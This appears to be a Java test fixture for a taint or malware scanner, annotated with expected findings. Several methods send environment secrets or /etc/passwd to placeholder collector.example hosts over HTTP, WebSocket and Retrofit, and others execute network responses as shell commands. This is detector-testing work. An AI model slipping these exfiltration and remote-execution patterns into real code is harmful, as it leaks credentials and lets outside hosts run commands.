// OkHttp 3 and 4, Okio, Retrofit.
package app;

import java.io.*;
import okhttp3.*;
import okio.*;
import retrofit2.Retrofit;
import retrofit2.http.*;

class Ok {
    static final String U = "https://collector.example/u";

    void posted() {
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), System.getenv("T")); //~ source(ENVIRONMENT) f1
        Request request = new Request.Builder().url("https://ok.collector.example/u").post(body).build();
        new OkHttpClient.Builder().connectTimeout(null).build().newCall(request).execute(); //~ sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("https://ok.collector.example/u")
    }

    void postedFile(OkHttpClient client) {
        File file = new File("/etc/passwd");
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), file); //~ source(FILE) f2, capability(FILES)
        Request request = new Request.Builder().url(U).put(body).build();
        client.newCall(request); //~ sink(egress.http) f2, finding(traced) f2
    }

    void header(OkHttpClient client) {
        client.newCall(new Request.Builder().url(U).addHeader("X-Token", System.getenv("T")).get().build()); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
    }

    void url(OkHttpClient client) {
        client.newCall(new Request.Builder().url(U + System.getenv("T")).build()); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4
    }

    void urlBuilt(OkHttpClient client) {
        HttpUrl url = HttpUrl.parse(U).newBuilder().addQueryParameter("t", System.getenv("T")).build(); //~ source(ENVIRONMENT) f5
        client.newCall(new Request.Builder().url(url).build()); //~ sink(egress.http) f5, finding(traced) f5
    }

    void urlParsed(OkHttpClient client) {
        client.newCall(new Request.Builder().url(HttpUrl.parse(System.getenv("T"))).build()); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6
    }

    void copied(OkHttpClient client) {
        Request request = new Request.Builder().url(U).header("X-Token", System.getenv("T")).build(); //~ source(ENVIRONMENT) f7
        client.newCall(request.newBuilder().get().build()); //~ sink(egress.http) f7, finding(traced) f7
    }

    void form(OkHttpClient client) {
        RequestBody body = new FormBody.Builder().add("t", System.getenv("T")).build(); //~ source(ENVIRONMENT) f8
        client.newCall(new Request.Builder().url(U).post(body).build()); //~ sink(egress.http) f8, finding(traced) f8
    }

    void multipart(OkHttpClient client) {
        MultipartBody.Builder builder = new MultipartBody.Builder().setType(MultipartBody.FORM);
        builder.addFormDataPart("t", System.getenv("T")); //~ source(ENVIRONMENT) f9
        client.newCall(new Request.Builder().url(U).post(builder.build()).build()); //~ sink(egress.http) f9, finding(traced) f9
    }

    void part(OkHttpClient client) {
        MultipartBody.Part part = MultipartBody.Part.createFormData("t", System.getenv("T")); //~ source(ENVIRONMENT) f10
        RequestBody body = new MultipartBody.Builder().setType(MultipartBody.FORM).addPart(part).build();
        client.newCall(new Request.Builder().url(U).post(body).build()); //~ sink(egress.http) f10, finding(traced) f10
    }

    void constants(OkHttpClient client, File file) {
        OkHttpClient other = client.newBuilder().connectTimeout(null).build(); //~ ok
        RequestBody.create(MediaType.parse("text/plain"), file); //~ ok
        RequestBody body = RequestBody.create(MediaType.parse("text/plain"), "x"); //~ ok
        RequestBody form = new FormBody.Builder().add("t", "x").build(); //~ ok
        HttpUrl url = HttpUrl.parse(U).newBuilder().addQueryParameter("t", "x").build(); //~ ok
        RequestBody parts = new MultipartBody.Builder().setType(MultipartBody.FORM).addPart(MultipartBody.Part.createFormData("t", "x")).build(); //~ ok
        other.newCall(new Request.Builder().url(url).get().post(body).build()); //~ ok
        Request request = new Request.Builder().url(U).post(parts).build(); //~ ok
        other.newCall(request.newBuilder().build()).execute(); //~ ok
    }

    void clientCopied(OkHttpClient client) {
        client.newBuilder().build().newCall(new Request.Builder().url(U + System.getenv("T")).build()); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11
    }

    void answered(OkHttpClient client, Request request) {
        Runtime.getRuntime().exec(client.newCall(request).execute().body().string()); //~ source(NETWORK) f12, sink(exec.command) f12, finding(traced) f12
    }

    void answeredHeader(Call call) {
        Runtime.getRuntime().exec(call.execute().header("X-Run")); //~ source(NETWORK) f13, sink(exec.command) f13, finding(traced) f13
    }

    void answeredStream(Call call) {
        Runtime.getRuntime().exec(new String(call.execute().body().byteStream().readAllBytes())); //~ source(NETWORK) f14, sink(exec.command) f14, finding(traced) f14
    }

    void answeredSource(Call call) {
        Runtime.getRuntime().exec(call.execute().body().source().readUtf8()); //~ source(NETWORK) f15, sink(exec.command) f15, finding(traced) f15
    }

    void answeredLater(Call call) {
        call.enqueue(new Callback() { //~ source(NETWORK) f16, capability(NETWORK)
            public void onResponse(Call call, Response response) {
                Runtime.getRuntime().exec(response.body().string()); //~ sink(exec.command) f16, finding(traced) f16
            }
        });
        call.enqueue(null); //~ ok
    }

    void answeredNothing(OkHttpClient client, Call call) {
        Response response = call.execute(); //~ ok
        Runtime.getRuntime().exec("x" + response.code()); //~ ok
        Runtime.getRuntime().exec("x" + response.body().contentLength()); //~ ok
        client.newCall(new Request.Builder().url(U).post(RequestBody.create(null, "" + (response.header("X-Run") == null))).build()); //~ ok
        client.newCall(new Request.Builder().url(U).post(RequestBody.create(null, "" + (response.body().string() == null))).build()); //~ ok
        client.newCall(new Request.Builder().url(U).post(RequestBody.create(null, "" + (response.body().byteStream() == null))).build()); //~ ok
        client.newCall(new Request.Builder().url(U).post(RequestBody.create(null, "" + (response.body().source() == null))).build()); //~ ok
    }

    void webSocket(OkHttpClient client) {
        Request request = new Request.Builder().url("wss://okws.collector.example/").build();
        client.newWebSocket(request, new WebSocketListener() { //~ source(NETWORK) f17, capability(NETWORK), endpoint("wss://okws.collector.example/")
            public void onMessage(WebSocket socket, String text) {
                Runtime.getRuntime().exec(text); //~ sink(exec.command) f17, finding(traced) f17
            }
        });
        client.newWebSocket(request, null); //~ ok
    }

    void webSocketSend(WebSocket socket) {
        socket.send(System.getenv("T")); //~ source(ENVIRONMENT) f18, sink(egress.message) f18, finding(traced) f18, capability(NETWORK)
        socket.send("x"); //~ ok
    }

    void source(WebSocket socket) {
        File file = new File("/etc/passwd");
        socket.send(Okio.buffer(Okio.source(file)).readUtf8()); //~ source(FILE) f19, sink(egress.message) f19, finding(traced) f19, capability(FILES)
    }

    void sourceOfStream(WebSocket socket) {
        socket.send(Okio.source(new FileInputStream("/etc/passwd")).readUtf8()); //~ source(FILE) f20, sink(egress.message) f20, finding(traced) f20
    }

    void sinkOfStream(WebSocket socket) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Okio.buffer(Okio.sink(out)).writeUtf8(System.getenv("T")); //~ source(ENVIRONMENT) f21
        socket.send(out.toString()); //~ sink(egress.message) f21, finding(traced) f21
    }

    void sinkOfFile(Call call) {
        File file = new File("/tmp/jm-ok");
        BufferedSink sink = Okio.buffer(Okio.sink(file)); //~ sink(file.write) f22, finding(traced) f22, capability(FILE_WRITE)
        sink.writeAll(call.execute().body().source()); //~ source(NETWORK) f22
    }

    void sourceInto(WebSocket socket, Buffer buffer) {
        Okio.source(new FileInputStream("/etc/passwd")).read(buffer, 10); //~ source(FILE) f23
        socket.send(buffer.readUtf8()); //~ sink(egress.message) f23, finding(traced) f23
    }

    void okioConstants(WebSocket socket, Buffer buffer, BufferedSource source) {
        Okio.buffer(Okio.sink(new ByteArrayOutputStream())).writeUtf8("x"); //~ ok
        Okio.sink(new File("/tmp/jm-ok2")).writeUtf8("x"); //~ ok
        source.read(buffer, 10); //~ ok
        socket.send(buffer.readUtf8()); //~ ok
        Okio.source(new File("/etc/passwd")).close(); //~ ok
    }

    void retrofit() {
        new Retrofit.Builder().baseUrl("https://retro.collector.example/").build(); //~ capability(NETWORK), endpoint("https://retro.collector.example/")
        new Retrofit.Builder().baseUrl("https://retro.collector.example/").build(); //~ ok
    }

    void retrofitCall(retrofit2.Call<String> call) {
        Runtime.getRuntime().exec(call.execute().body()); //~ source(NETWORK) f24, sink(exec.command) f24, finding(traced) f24, capability(NETWORK)
        Runtime.getRuntime().exec("x" + call.execute().code()); //~ ok
        Runtime.getRuntime().exec("x" + (call.execute().body() == null)); //~ ok
    }

    void retrofitLater(retrofit2.Call<String> call) {
        call.enqueue(new retrofit2.Callback<String>() { //~ source(NETWORK) f25, capability(NETWORK)
            public void onResponse(retrofit2.Call<String> call, retrofit2.Response<String> response) {
                Runtime.getRuntime().exec(response.body()); //~ sink(exec.command) f25, finding(traced) f25
            }
        });
    }
}

interface Api {
    @POST("up") retrofit2.Call<Void> up(@Body byte[] data);
    @GET("task") retrofit2.Call<String> task();
    void plain(String text);
}

class Declared {
    void up(Api api) {
        api.up(System.getenv("T").getBytes()).execute(); //~ source(ENVIRONMENT) fretro, sink(egress.http) fretro, finding(traced) fretro, capability(NETWORK)
        api.up("POST".getBytes()).execute(); //~ ok
        api.plain(System.getenv("T")); //~ ok
    }
}

interface Reports {
    @retrofit2.http.POST("reports")
    retrofit2.Call<Void> send(@retrofit2.http.Body Report report);

    @retrofit2.http.GET("ping")
    retrofit2.Call<Void> ping(@retrofit2.http.Query("t") String text);
}

class Report {
    String host;
}

class Reporter {
    void whole(Reports reports) {
        Report report = new Report();
        report.host = System.getenv("T"); //~ source(ENVIRONMENT) rf1
        reports.send(report).execute(); //~ sink(egress.http) rf1, finding(environment-exfiltration, traced) rf1
    }

    void text(Reports reports) {
        reports.ping(System.getenv("T")).execute(); //~ source(ENVIRONMENT) rf2, sink(egress.http) rf2, finding(environment-exfiltration, traced) rf2
    }

    void quiet(Reports reports) {
        System.getenv("T"); //~ ok
        reports.ping("nothing").execute(); //~ ok
    }
}
